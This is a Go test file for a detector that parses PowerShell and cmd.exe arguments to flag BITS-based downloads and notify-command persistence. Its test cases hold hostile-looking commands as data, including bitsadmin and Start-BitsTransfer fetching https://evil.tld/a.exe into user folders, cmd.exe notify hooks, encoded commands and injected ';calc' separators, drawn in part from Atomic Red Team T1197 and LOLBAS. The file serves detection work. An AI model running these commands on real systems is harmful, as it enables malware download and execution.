package hardened

import (
	"slices"
	"strings"
	"testing"
	"time"
)

// TestPSArgument reads one argument as PowerShell's argument mode does
// (about_Parsing, about_Quoting_Rules), through the Windows command-line
// rules first when the text is a process's command line.
func TestPSArgument(t *testing.T) {
	for _, c := range []struct {
		text, want string
		argv       bool
		rest       string // the text after the argument
	}{
		{text: `$env:TEMP\bitsadmin2_flag.ps1}`, want: `$env:TEMP\bitsadmin2_flag.ps1`, rest: `}`},
		{text: `C:\x\a.exe) | Out-Null`, want: `C:\x\a.exe`, rest: `) | Out-Null`},
		{text: `C:\x\a.exe;calc`, want: `C:\x\a.exe`, rest: `;calc`},
		{text: `C:\x\a.exe|Out-Null`, want: `C:\x\a.exe`, rest: `|Out-Null`},
		{text: "C:\\x\\a.exe\nWrite-Host done", want: `C:\x\a.exe`, rest: "\nWrite-Host done"},
		{text: `C:\x\a.exe,C:\x\b.exe`, want: `C:\x\a.exe`, rest: `,C:\x\b.exe`},
		{text: `C:\x\a.exe&calc`, want: `C:\x\a.exe`, rest: `&calc`},
		// Quotes: braces, spaces and metacharacters inside are the value's.
		{text: `'C:\Users\Public\a}b.exe'}`, want: `C:\Users\Public\a}b.exe`, rest: `}`},
		{text: `"C:\Program Files\{x}; y.exe"}`, want: `C:\Program Files\{x}; y.exe`, rest: `}`},
		{text: `'C:\Users\Public\it''s.exe'`, want: `C:\Users\Public\it's.exe`},
		{text: `"C:\Users\Public\a""b.exe"`, want: `C:\Users\Public\a"b.exe`},
		{text: "\"C:\\Users\\Public\\a`\"b.exe\" x", want: `C:\Users\Public\a"b.exe`, rest: ` x`},
		{text: "\"C:\\Users\\Public\\a`tb.exe\"", want: "C:\\Users\\Public\\a\tb.exe"},
		{text: "'C:\\Users\\Public\\a`tb.exe'", want: "C:\\Users\\Public\\a`tb.exe"},
		{text: "C:\\Users\\Pub`lic\\a`}b.exe}", want: `C:\Users\Public\a}b.exe`, rest: `}`},
		{text: `C:\Users\'Pub lic'\"a b".exe} x`, want: `C:\Users\Pub lic\a b.exe`, rest: `} x`},
		// Unterminated quotes run to the end of the text.
		{text: `'C:\Users\Public\a.exe} x`, want: `C:\Users\Public\a.exe} x`},
		{text: `"C:\Users\Public\a.exe`, want: `C:\Users\Public\a.exe`},
		// Variables, subexpressions and expressions keep their brackets.
		{text: `${env:TEMP}\a.ps1}`, want: `${env:TEMP}\a.ps1`, rest: `}`},
		{text: `$env:TEMP\$(Get-Random).exe}`, want: `$env:TEMP\$(Get-Random).exe`, rest: `}`},
		{text: `"$env:TEMP\$("a" + ')').exe"}`, want: `$env:TEMP\$("a" + ')').exe`, rest: `}`},
		{text: `(Join-Path $env:TEMP 'a}.exe') x`, want: `(Join-Path $env:TEMP 'a}.exe')`, rest: ` x`},
		{text: `{ a { b } } x`, want: `{ a { b } }`, rest: ` x`},
		{text: `@(1,2) x`, want: `@(1,2)`, rest: ` x`},
		{text: `a(b)`, want: `a`, rest: `(b)`},
		{text: `# comment`, want: ``, rest: `# comment`},
		{text: `a#b c`, want: `a#b`, rest: ` c`},
		// Redirections end an argument anywhere outside quotes (`a>b`
		// writes a to b); inside quotes they are characters.
		{text: `C:\x\a.exe>out.txt`, want: `C:\x\a.exe`, rest: `>out.txt`},
		{text: `C:\x\a.exe</string>`, want: `C:\x\a.exe`, rest: `</string>`},
		{text: `'a>b' c`, want: `a>b`, rest: ` c`},
		// A backtick-escaped space is part of the argument.
		{text: "C:\\Users\\Public\\a` b.exe} x", want: `C:\Users\Public\a b.exe`, rest: `} x`},
		{text: "C:\\a` ` b x", want: `C:\a  b`, rest: ` x`},
		// Curly quotes are PowerShell's quotes: U+2018-U+201B single,
		// U+201C-U+201E double, any of a kind closing any other of it.
		{text: "\u2018C:\\a b.exe\u2019} x", want: `C:\a b.exe`, rest: `} x`},
		{text: "\u201cC:\\a b.exe\u201d} x", want: `C:\a b.exe`, rest: `} x`},
		{text: "\u201eC:\\a b.exe\u201c x", want: `C:\a b.exe`, rest: ` x`},
		{text: "\u201aC:\\a b.exe' x", want: `C:\a b.exe`, rest: ` x`},
		{text: "'it\u2019\u2019s a' x", want: "it\u2019s a", rest: ` x`},
		{text: "\"a \u2018b\u2019 c\" x", want: "a \u2018b\u2019 c", rest: ` x`},
		{text: "\u201ca `\u201d b\u201d x", want: "a \u201d b", rest: ` x`},
		{text: "(Join-Path $env:TEMP \u2018a).exe\u2019) x", want: "(Join-Path $env:TEMP \u2018a).exe\u2019)", rest: ` x`},
		// Other characters of that block are not quotes.
		{text: "a\u2013b\u2020c x", want: "a\u2013b\u2020c", rest: ` x`},
		{text: "\u2018C:\\a b.exe\u2019}\"", argv: true, want: `C:\a b.exe`, rest: "}\""},
		// Command lines: CommandLineToArgvW's quotes come off first.
		{text: `C:\Users\Public\a.exe}"`, argv: true, want: `C:\Users\Public\a.exe`, rest: `}"`},
		{text: `\"C:\Users\Public\a}b.exe\"} x`, argv: true, want: `C:\Users\Public\a}b.exe`, rest: `} x`},
		{text: `"'C:\a b\c.exe'" x`, argv: true, want: `C:\a b\c.exe`, rest: ` x`},
		{text: `"C:\a b\c.exe" x`, argv: true, want: `C:\a`, rest: ` b\c.exe" x`},
		{text: `C:\a\\\\"b"`, argv: true, want: `C:\a\\b`},
		{text: `C^:\a^}.exe`, argv: true, want: `C:\a`, rest: `}.exe`},
	} {
		a := &analysis{}
		a.norm = append(a.norm, "earlier"...)
		a.low = append(a.low, "earlier"...)
		s, _, next := a.psArgument([]byte(c.text), 0, len(c.text), c.argv, false)
		if got := string(a.norm[s.start:s.end]); got != c.want || c.text[next:] != c.rest {
			t.Errorf("psArgument(%q, argv=%v) = %q, rest %q; want %q, rest %q", c.text, c.argv, got, c.text[next:], c.want, c.rest)
		}
		if string(a.low[s.start:s.end]) != strings.ToLower(string(a.norm[s.start:s.end])) {
			t.Errorf("psArgument(%q): low %q is not norm lowercased", c.text, a.low[s.start:s.end])
		}
	}
}

// TestCmdletArguments: the values of a BITS cmdlet's parameters end where
// PowerShell ends them, and the verdict reads the clean value (the `.ps1}`
// of Atomic Red Team T1197 #2 hid an executable download).
func TestCmdletArguments(t *testing.T) {
	const (
		artURL = `https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md`
		evil   = `https://evil.tld/a.exe`
		pub    = `C:\Users\Public\a.exe`
	)
	cases := []struct {
		name       string
		e          event
		url, dest  []string
		indicators []string // that must be present
	}{
		{"ART T1197 #2 as Invoke-AtomicTest runs it",
			sysmon1(powershellExe, `"powershell.exe" & {Start-BitsTransfer -Priority foreground -Source `+artURL+` -Destination $env:TEMP\bitsadmin2_flag.ps1}`),
			[]string{artURL}, []string{`$env:TEMP\bitsadmin2_flag.ps1`},
			[]string{"executable_download", "renamed_on_download", "download_to_user_writable"}},
		{"ART T1197 #2 as a script block",
			scriptBlock(`& {Start-BitsTransfer -Priority foreground -Source ` + artURL + ` -Destination $env:TEMP\bitsadmin2_flag.ps1}`),
			[]string{artURL}, []string{`$env:TEMP\bitsadmin2_flag.ps1`},
			[]string{"executable_download", "download_to_user_writable"}},
		{"Microsoft Learn Start-BitsTransfer example 1",
			scriptBlock(`Start-BitsTransfer -Source "http://server01/servertestdir/testfile1.txt" -Destination "c:\clienttestdir\testfile1.txt"`),
			[]string{`http://server01/servertestdir/testfile1.txt`}, []string{`c:\clienttestdir\testfile1.txt`}, nil},
		{"-Command in double quotes around a script block",
			powershell(`-NoP -c "& {Start-BitsTransfer -Source ` + evil + ` -Destination ` + pub + `}"`),
			[]string{evil}, []string{pub}, []string{"executable_download", "download_to_user_writable"}},
		{"nested script blocks",
			scriptBlock(`& { & { Start-BitsTransfer -Source ` + evil + ` -Destination ` + pub + `}}`),
			[]string{evil}, []string{pub}, []string{"executable_download"}},
		{"the source last, before the brace",
			scriptBlock(`& {Start-BitsTransfer -Destination ` + pub + ` -Source ` + evil + `}`),
			[]string{evil}, []string{pub}, []string{"executable_download"}},
		{"positional arguments in a script block",
			scriptBlock(`& {Start-BitsTransfer ` + evil + ` $env:TEMP\a.exe}`),
			[]string{evil}, []string{`$env:TEMP\a.exe`}, []string{"executable_download", "download_to_user_writable"}},
		{"-Destination:value",
			scriptBlock(`& {Start-BitsTransfer -Source ` + evil + ` -Destination:'C:\Users\Public\a b.exe'}`),
			[]string{evil}, []string{`C:\Users\Public\a b.exe`}, []string{"executable_download"}},
		{"a brace inside quotes stays",
			scriptBlock(`& {Start-BitsTransfer -Source '` + evil + `' -Destination 'C:\Users\Public\{0}.exe'}`),
			[]string{evil}, []string{`C:\Users\Public\{0}.exe`}, []string{"executable_download"}},
		{"quoted path with spaces, doubled quote",
			scriptBlock(`Start-BitsTransfer -Source ` + evil + ` -Destination 'C:\Users\Public\it''s here.exe'; calc`),
			[]string{evil}, []string{`C:\Users\Public\it's here.exe`}, []string{"executable_download"}},
		{"the command ends at a pipe",
			scriptBlock(`Start-BitsTransfer -Source ` + evil + ` -Destination ` + pub + `|Out-Null`),
			[]string{evil}, []string{pub}, []string{"executable_download"}},
		{"argv-escaped quotes around a brace",
			powershell(`-c Start-BitsTransfer -Source ` + evil + ` -Destination \"C:\Users\Public\a}b.exe\"`),
			[]string{evil}, []string{`C:\Users\Public\a}b.exe`}, []string{"executable_download"}},
		{"braced variable",
			scriptBlock(`& {Start-BitsTransfer -Source ` + evil + ` -Destination ${env:TEMP}\a.exe}`),
			[]string{evil}, []string{`${env:TEMP}\a.exe`}, []string{"executable_download", "download_to_user_writable"}},
		// Expressions (about_Parsing: `(` starts an expression in argument
		// mode) are kept whole, as written; nothing is read from a source
		// PowerShell computes.
		{"an expression as the destination",
			scriptBlock(`Start-BitsTransfer -Source ` + evil + ` -Destination (Join-Path $env:TEMP 'a.exe')`),
			[]string{evil}, []string{`(Join-Path $env:TEMP 'a.exe')`}, []string{"download_to_user_writable"}},
		{"an expression as the source",
			scriptBlock(`Start-BitsTransfer -Source ($base + "/a.exe") -Destination ` + pub),
			[]string{`($base + "/a.exe")`}, []string{pub}, []string{"executable_download"}},
		// A URL written inside an expression is read as the text's other
		// URLs are; here a bare scheme, whose empty host is malformed.
		{"an expression building the URL",
			scriptBlock(`Start-BitsTransfer -Source ("https://" + $h + "/a.exe") -Destination ` + pub),
			[]string{`("https://" + $h + "/a.exe")`, `https://`}, []string{pub}, []string{"malformed_url"}},
		{"a URL literal in an expression",
			scriptBlock(`Start-BitsTransfer -Source ('` + evil + `') -Destination C:\x\a.bin`),
			[]string{`('` + evil + `')`, evil}, []string{`C:\x\a.bin`}, []string{"external_url", "executable_download"}},
		{"nested expressions in a script block, -Name: before one",
			scriptBlock(`& {Start-BitsTransfer -Source:("https://" + $h) -Destination: (Join-Path $env:TEMP ('a' + '.exe'))}`),
			[]string{`("https://" + $h)`, `https://`}, []string{`(Join-Path $env:TEMP ('a' + '.exe'))`}, []string{"download_to_user_writable"}},
		{"an expression on a command line",
			powershell(`-c "Start-BitsTransfer -Source ` + evil + ` -Destination (Join-Path $env:PUBLIC 'a b.exe')"`),
			[]string{evil}, []string{`(Join-Path $env:PUBLIC 'a b.exe')`}, []string{"download_to_user_writable"}},
		{"an expression left open ends with its command",
			scriptBlock(`Start-BitsTransfer -Source ` + evil + ` -Destination (Join-Path $env:TEMP 'a.exe'; calc`),
			[]string{evil}, []string{`(Join-Path $env:TEMP 'a.exe'`}, []string{"download_to_user_writable"}},
		{"a subexpression in the destination",
			scriptBlock(`Start-BitsTransfer -Source ` + evil + ` -Destination $env:TEMP\$(Get-Random).exe`),
			[]string{evil}, []string{`$env:TEMP\$(Get-Random).exe`}, []string{"download_to_user_writable", "executable_download"}},
		// about_Special_Characters: a backtick escapes a space.
		{"a backtick-escaped space in the destination",
			scriptBlock("& {Start-BitsTransfer -Source " + evil + " -Destination C:\\Users\\Public\\a` b.exe}"),
			[]string{evil}, []string{`C:\Users\Public\a b.exe`}, []string{"executable_download", "download_to_user_writable"}},
		{"a backtick-escaped space in a positional path",
			scriptBlock("Start-BitsTransfer " + evil + " C:\\Users\\Public\\a` b` c.exe"),
			[]string{evil}, []string{`C:\Users\Public\a b c.exe`}, []string{"executable_download"}},
		// about_Quoting_Rules: PowerShell's curly quotes.
		{"curly single quotes",
			scriptBlock("Start-BitsTransfer -Source \u2018" + evil + "\u2019 -Destination \u2018C:\\Users\\Public\\a b.exe\u2019"),
			[]string{evil}, []string{`C:\Users\Public\a b.exe`}, []string{"executable_download", "external_url"}},
		{"curly double quotes on a command line",
			powershell("-c \"& {Start-BitsTransfer -Source " + evil + " -Destination \u201cC:\\Users\\Public\\a b.exe\u201d}\""),
			[]string{evil}, []string{`C:\Users\Public\a b.exe`}, []string{"executable_download"}},
		{"curly quotes are no quotes to cmd.exe",
			sysmon1(`C:\Windows\System32\bitsadmin.exe`, "bitsadmin /transfer j "+evil+" \u2018C:\\Users\\Public\\a.exe\u2019"),
			[]string{evil}, []string{"\u2018C:\\Users\\Public\\a.exe\u2019"}, nil},
		{"unterminated quote",
			scriptBlock(`Start-BitsTransfer -Source ` + evil + ` -Destination 'C:\Users\Public\a.exe`),
			[]string{evil}, []string{pub}, []string{"executable_download"}},
	}
	d := New(nil)
	for _, c := range cases {
		r := score(t, d, c.e)
		if got := r.fields["BitsUrl"]; !slices.Equal(got, c.url) {
			t.Errorf("%s: BitsUrl = %q, want %q", c.name, got, c.url)
		}
		if got := r.fields["BitsDestination"]; !slices.Equal(got, c.dest) {
			t.Errorf("%s: BitsDestination = %q, want %q", c.name, got, c.dest)
		}
		for _, ind := range c.indicators {
			if !r.has(ind) {
				t.Errorf("%s: Indicators = %q, want %s", c.name, r.indicators, ind)
			}
		}
	}
}

// TestCmdletArgumentsLinear: texts made of BITS cmdlet calls whose
// arguments open quotes, subexpressions and script blocks they never
// close cost time linear in their length (4 times the text: at most 8
// times the time, where quadratic would be 16).
func TestCmdletArgumentsLinear(t *testing.T) {
	d := New(nil).(*Detector)
	d.memo = nil // every run analysed
	for _, unit := range []string{
		`Start-BitsTransfer -Source 'https://evil.tld/a -Destination "C:\x $( `,
		`& {Start-BitsTransfer -Destination ${a -Source $(b https://evil.tld/a.exe C:\x\y} `,
		`Start-BitsTransfer https://evil.tld/"a C:\a\"b '' "" ` + "`",
		// Values PowerShell carries over many tokens: escaped spaces,
		// expressions left open, curly quotes left open.
		"Start-BitsTransfer https://evil.tld/a.exe C:\\a` b` -Destination (x ",
		"Start-BitsTransfer` https://evil.tld/a.exe` C:\\a` ",
		"Start-BitsTransfer -Source (\"https://e/\" -Destination \u2018C:\\x ((( ",
		// bitsadmin read as PowerShell (TestBitsadminInPowerShell).
		"& {bitsadmin /transfer j https://evil.tld/a.exe C:\\a` b /setnotifycmdline j (x} ",
		"bitsadmin /setnotifycmdline j C:\\x.exe \u201ca ",
		// powershell after cmd.exe, which ends it (cmdScan reads on).
		`cmd /c "powershell -c x & bitsadmin /transfer j https://evil.tld/a.exe C:\a}.exe "`,
		`cmd /c powershell -c "cmd /c powershell -c x" ^& bitsadmin /x & `,
	} {
		checkLinear(t, d, func(n int) string { return repeatTo(unit, n) }, unit+" repeated")
	}
	// Many bitsadmin commands in one statement, then separators: where
	// PowerShell's reading of that statement stops is found once.
	checkLinear(t, d, func(n int) string {
		return repeatTo("{bitsadmin /create j} ", n/2) + repeatTo(" )(", n/2)
	}, "bitsadmin blocks, then separators")
	// The same, an encoded command between the blocks: the decoded text's
	// own commands do not make the outer statement's end be found again.
	checkLinear(t, d, func(n int) string {
		return repeatTo("{bitsadmin /x} powershell -enc "+encode("bitsadmin /x")+" ", n/2) + repeatTo(" )(", n/2)
	}, "bitsadmin blocks and encoded commands, then separators")
	// Many `cmd /c "...`, then no quote: the last quote, which each would
	// strip, is found once.
	checkLinear(t, d, func(n int) string {
		return "bitsadmin /x & " + repeatTo(`cmd /c "a & `, n/2) + repeatTo("x ", n/2)
	}, "cmd /c with quotes, then none")
}

// checkLinear fails when the text of text(128 KiB) costs more than 8
// times that of text(32 KiB) (quadratic would be 16), in any field.
func checkLinear(t *testing.T, d *Detector, text func(n int) string, what string) {
	t.Helper()
	for _, f := range costFields {
		small := toInputs(d, f.event(text(32<<10)))
		large := toInputs(d, f.event(text(128<<10)))
		ts, tl := timeScore(d, small, 5), timeScore(d, large, 5)
		if tl > 8*ts+2*time.Millisecond {
			t.Errorf("%s: %s: 32 KiB in %v, 128 KiB in %v", f.name, what, ts, tl)
		}
	}
}

// TestBitsadminInPowerShell: bitsadmin launched by PowerShell (a script
// block, -Command) has its arguments read by PowerShell's rules, which
// end them at a `}` closing the block; launched by cmd.exe or as a
// process, by cmd.exe's and CommandLineToArgvW's, which keep it.
func TestBitsadminInPowerShell(t *testing.T) {
	const (
		evil   = `https://evil.tld/a.exe`
		pub    = `C:\Users\Public\a.exe`
		artURL = `https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md`
	)
	bitsadminExe := `C:\Windows\System32\bitsadmin.exe`
	cases := []struct {
		name                      string
		e                         event
		url, dest, notify, titles []string
		indicators, absent        []string
	}{
		{name: "a script block on powershell's command line",
			e:   powershell(`-c "& {bitsadmin /transfer j /download ` + evil + ` ` + pub + `}"`),
			url: []string{evil}, dest: []string{pub}, titles: []string{"j"},
			indicators: []string{"bitsadmin_download", "executable_download", "download_to_user_writable"}},
		{name: "-Command, then another command",
			e:   powershell(`-Command "bitsadmin /transfer j ` + evil + ` $env:TEMP\a.exe; Start-Process $env:TEMP\a.exe"`),
			url: []string{evil}, dest: []string{`$env:TEMP\a.exe`}, titles: []string{"j"},
			indicators: []string{"executable_download", "download_to_user_writable"}},
		{name: "an encoded command",
			e:   powershell(`-NoP -enc ` + encode(`& {bitsadmin /transfer j `+evil+` `+pub+`}`)),
			url: []string{evil}, dest: []string{pub}, titles: []string{"j"},
			indicators: []string{"bits_in_encoded_command", "executable_download", "download_to_user_writable"}},
		{name: "powershell launched by cmd.exe",
			e:   sysmon1(cmdExe, `cmd.exe /c powershell -c "& {bitsadmin /transfer j `+evil+` `+pub+`}"`),
			url: []string{evil}, dest: []string{pub}, titles: []string{"j"},
			indicators: []string{"executable_download", "download_to_user_writable"}},
		{name: "curly quotes in PowerShell",
			e:   scriptBlock("bitsadmin /transfer \u201cmy job\u201d " + evil + " \u2018C:\\Users\\Public\\a b.exe\u2019"),
			url: []string{evil}, dest: []string{`C:\Users\Public\a b.exe`}, titles: []string{"my job"},
			indicators: []string{"executable_download", "download_to_user_writable"}},
		// Atomic Red Team T1197 #1 (atomics/T1197/T1197.yaml, MIT), its
		// command run as Invoke-AtomicTest runs a powershell executor's.
		{name: "ART T1197 #1 in a script block",
			e:   scriptBlock(`& {bitsadmin.exe /transfer /Download /priority Foreground ` + artURL + ` %temp%\bitsadmin1_flag.ps1}`),
			url: []string{artURL}, dest: []string{`%temp%\bitsadmin1_flag.ps1`},
			indicators: []string{"bitsadmin_download", "executable_download", "renamed_on_download", "download_to_user_writable"}},
		// Atomic Red Team T1197 #3, its lines in a script block.
		{name: "ART T1197 #3 in a script block",
			e: scriptBlock("& {bitsadmin.exe /create AtomicBITS\nbitsadmin.exe /addfile AtomicBITS " + artURL + " %temp%\\bitsadmin_flag.ps1\n" +
				"bitsadmin.exe /setnotifycmdline AtomicBITS C:\\Windows\\system32\\notepad.exe %temp%\\bitsadmin3_flag.ps1\n" +
				"bitsadmin.exe /complete AtomicBITS\nbitsadmin.exe /resume AtomicBITS}"),
			url: []string{artURL}, dest: []string{`%temp%\bitsadmin_flag.ps1`},
			notify:     []string{`C:\Windows\system32\notepad.exe %temp%\bitsadmin3_flag.ps1`},
			titles:     []string{"AtomicBITS"},
			indicators: []string{"notify_cmdline", "notify_program_user_writable", "bitsadmin_job_control"}},
		// LOLBAS Bitsadmin.yml's Execute one-liner, its cmd.exe `&`
		// written as PowerShell's `;`.
		{name: "LOLBAS Bitsadmin execute in a script block",
			e: scriptBlock(`& {bitsadmin /create 1; bitsadmin /addfile 1 c:\windows\system32\cmd.exe c:\data\playfolder\cmd.exe; ` +
				`bitsadmin /SetNotifyCmdLine 1 c:\data\playfolder\cmd.exe NULL; bitsadmin /RESUME 1; bitsadmin /Reset}`),
			url: []string{`c:\windows\system32\cmd.exe`}, dest: []string{`c:\data\playfolder\cmd.exe`},
			notify: []string{`c:\data\playfolder\cmd.exe NULL`}, titles: []string{"1"},
			indicators: []string{"notify_cmdline", "notify_runs_interpreter", "bitsadmin_reset"}},
		{name: "the notify command ends at the brace",
			e:      scriptBlock(`& {bitsadmin /setnotifycmdline j C:\x.exe NULL}`),
			notify: []string{`C:\x.exe NULL`}, titles: []string{"j"},
			indicators: []string{"notify_cmdline"}},
		{name: "quoted notify parameters and title",
			e:      scriptBlock(`if ($x) { bitsadmin /setnotifycmdline 'Update Job' cmd.exe '/c C:\Users\Public\a.exe' } else { calc }`),
			notify: []string{`cmd.exe /c C:\Users\Public\a.exe`}, titles: []string{"Update Job"},
			indicators: []string{"notify_runs_interpreter", "notify_program_user_writable"}},
		{name: "bitsadmin after a closed block in the same statement",
			e:   scriptBlock(`if ($a) {bitsadmin /create j} else {bitsadmin /transfer k ` + evil + ` ` + pub + `}`),
			url: []string{evil}, dest: []string{pub}, titles: []string{"j", "k"},
			indicators: []string{"bitsadmin_job_control", "bitsadmin_download", "executable_download"}},
		{name: "a notify command closed by its block, then another branch",
			e:      scriptBlock(`if ($a) {bitsadmin /setnotifycmdline j C:\x.exe NULL} else {bitsadmin /setnotifycmdline k NULL NULL; bitsadmin /priority k}`),
			notify: []string{`C:\x.exe NULL`}, titles: []string{"j", "k"},
			indicators: []string{"notify_cmdline"}},
		{name: "a switch's value cut by the brace",
			e:      scriptBlock(`if ($a) {bitsadmin /transfer j /priority }else{bitsadmin /create k}`),
			titles: []string{"j", "k"}, indicators: []string{"bitsadmin_job_control"}},
		{name: "a {GUID} job in PowerShell",
			e:          scriptBlock(`bitsadmin /resume {7A1A1F59-9D9C-4E9A-9D85-1C5E9BC2A8F1}`),
			titles:     []string{"{7A1A1F59-9D9C-4E9A-9D85-1C5E9BC2A8F1}"},
			indicators: []string{"bitsadmin_job_control"}},
		{name: "a backtick-escaped space in PowerShell",
			e:   scriptBlock("bitsadmin /transfer j " + evil + " C:\\Users\\Public\\a` b.exe"),
			url: []string{evil}, dest: []string{`C:\Users\Public\a b.exe`}, titles: []string{"j"},
			indicators: []string{"executable_download"}},
		// cmd.exe's rules: `}` and `{GUID}` are plain characters.
		{name: "bitsadmin's own command line keeps the brace",
			e:   sysmon1(bitsadminExe, `bitsadmin /transfer j https://evil.tld/a.txt C:\Users\Public\a.exe}`),
			url: []string{`https://evil.tld/a.txt`}, dest: []string{`C:\Users\Public\a.exe}`}, titles: []string{"j"},
			absent: []string{"executable_download", "renamed_on_download"}},
		{name: "cmd.exe started by a cmdlet from PowerShell reads its own command",
			e:   scriptBlock(`Start-Process cmd -ArgumentList '/c bitsadmin /transfer j ` + evil + ` C:\Users\Public\a}.exe'`),
			url: []string{evil}, dest: []string{`C:\Users\Public\a}.exe`}, titles: []string{"j"}},
		{name: "cmd.exe launched from PowerShell reads its own command",
			e:   powershell(`-c "cmd /c bitsadmin /transfer j ` + evil + ` C:\Users\Public\a}.exe; bitsadmin /create k}"`),
			url: []string{evil}, dest: []string{`C:\Users\Public\a}.exe`}, titles: []string{"j", "k"},
			indicators: []string{"executable_download"}},
		// On a command line cmd.exe parses, an `&`, `&&`, `||` or `|`
		// outside its quotes (not `^`-escaped) ends powershell's command:
		// bitsadmin after it is cmd.exe's, `}` a character of its path.
		// Inside cmd.exe's quotes, or escaped, the `&` is PowerShell's.
		{name: "cmd.exe ends powershell's command at &",
			e:   sysmon1(cmdExe, `cmd /c powershell -c Get-Date & bitsadmin /transfer j `+evil+` C:\Users\Public\a}.exe`),
			url: []string{evil}, dest: []string{`C:\Users\Public\a}.exe`}, titles: []string{"j"}},
		{name: "cmd.exe ends powershell's command at &&",
			e:   sysmon1(cmdExe, `cmd /c powershell -c Get-Date&&bitsadmin /transfer j `+evil+` C:\Users\Public\a}.exe`),
			url: []string{evil}, dest: []string{`C:\Users\Public\a}.exe`}, titles: []string{"j"}},
		{name: "cmd.exe ends powershell's command at ||",
			e:   sysmon1(cmdExe, `cmd.exe /q /c powershell -c Get-Date || bitsadmin /transfer j `+evil+` C:\Users\Public\a}.exe`),
			url: []string{evil}, dest: []string{`C:\Users\Public\a}.exe`}, titles: []string{"j"}},
		{name: "cmd.exe ends powershell's command at |",
			e:   sysmon1(cmdExe, `cmd /k powershell -c Get-Date | bitsadmin /transfer j `+evil+` C:\Users\Public\a}.exe`),
			url: []string{evil}, dest: []string{`C:\Users\Public\a}.exe`}, titles: []string{"j"}},
		{name: "cmd /c inside another program's command line",
			e: sysmon1(`C:\Windows\System32\schtasks.exe`, `schtasks /create /tn t /tr "cmd /c powershell -c Get-Date & bitsadmin /transfer j `+
				evil+` C:\Users\Public\a}.exe"`),
			url: []string{evil}, dest: []string{`C:\Users\Public\a}.exe`}, titles: []string{"j"}},
		{name: "a renamed cmd.exe ends powershell's command at &",
			e: sysmon1(`C:\Users\Public\c.exe`, `c.exe /c powershell -c Get-Date & bitsadmin /transfer j `+evil+` C:\Users\Public\a}.exe`,
				"OriginalFileName", "Cmd.Exe"),
			url: []string{evil}, dest: []string{`C:\Users\Public\a}.exe`}, titles: []string{"j"}},
		{name: "cmd.exe's quotes closed before the &",
			e:   sysmon1(cmdExe, `cmd /c powershell -c "Get-Date" & bitsadmin /transfer j `+evil+` C:\Users\Public\a}.exe`),
			url: []string{evil}, dest: []string{`C:\Users\Public\a}.exe`}, titles: []string{"j"}},
		{name: "a cmd /c after one whose quotes were stripped",
			e:   sysmon1(cmdExe, `cmd /c "echo x" & cmd /c powershell -c "Get-Date" & bitsadmin /transfer j `+evil+` C:\Users\Public\a}.exe`),
			url: []string{evil}, dest: []string{`C:\Users\Public\a}.exe`}, titles: []string{"j"}},
		{name: "cmd.exe's & ends powershell's command begun in it, not a later one",
			e: sysmon1(cmdExe, `cmd /c powershell -c "cmd /c powershell -c Get-Date" & bitsadmin /transfer j `+evil+
				` C:\Users\Public\a}.exe & echo`),
			url: []string{evil}, dest: []string{`C:\Users\Public\a}.exe`}, titles: []string{"j"}},
		{name: "an & inside cmd.exe's quotes is PowerShell's",
			e:   sysmon1(cmdExe, `cmd /c powershell -c "Get-Date & {bitsadmin /transfer j `+evil+` C:\x\a.exe}"`),
			url: []string{evil}, dest: []string{`C:\x\a.exe`}, titles: []string{"j"}},
		{name: "a quoted & is PowerShell's",
			e:   sysmon1(cmdExe, `cmd /c powershell -c Get-Date "&" {bitsadmin /transfer j `+evil+` C:\x\a.exe}`),
			url: []string{evil}, dest: []string{`C:\x\a.exe`}, titles: []string{"j"}},
		{name: "a caret-escaped & is PowerShell's",
			e:   sysmon1(cmdExe, `cmd /c powershell -c Get-Date ^& {bitsadmin /transfer j `+evil+` C:\x\a.exe}`),
			url: []string{evil}, dest: []string{`C:\x\a.exe`}, titles: []string{"j"}},
		// cmd /c "..." with special characters inside strips the first
		// and the last quote (cmd /?): the & is outside cmd.exe's quotes.
		{name: "cmd /c strips the quotes around its command",
			e:   sysmon1(cmdExe, `cmd /c "powershell -c Get-Date & bitsadmin /transfer j `+evil+` C:\Users\Public\a}.exe"`),
			url: []string{evil}, dest: []string{`C:\Users\Public\a}.exe`}, titles: []string{"j"}},
		{name: "quotes inside cmd /c's stripped quotes",
			e:   sysmon1(cmdExe, `cmd /c "powershell -c "Get-Date & {bitsadmin /transfer j `+evil+` C:\x\a.exe}""`),
			url: []string{evil}, dest: []string{`C:\x\a.exe`}, titles: []string{"j"}},
		// powershell.exe's own command line: no cmd.exe, the & is PowerShell's.
		{name: "powershell's own command line keeps its &",
			e:   powershell(`-c Get-Date & bitsadmin /transfer j ` + evil + ` C:\Users\Public\a}.exe`),
			url: []string{evil}, dest: []string{`C:\Users\Public\a`}, titles: []string{"j"}},
	}
	d := New(nil)
	for _, c := range cases {
		r := score(t, d, c.e)
		for _, f := range []struct {
			name string
			want []string
		}{{"BitsUrl", c.url}, {"BitsDestination", c.dest}, {"BitsNotifyCommand", c.notify}, {"BitsJobTitle", c.titles}} {
			if got := r.fields[f.name]; !slices.Equal(got, f.want) {
				t.Errorf("%s: %s = %q, want %q", c.name, f.name, got, f.want)
			}
		}
		for _, ind := range c.indicators {
			if !r.has(ind) {
				t.Errorf("%s: Indicators = %q, want %s", c.name, r.indicators, ind)
			}
		}
		for _, ind := range c.absent {
			if r.has(ind) {
				t.Errorf("%s: Indicators = %q, want no %s", c.name, r.indicators, ind)
			}
		}
	}
}
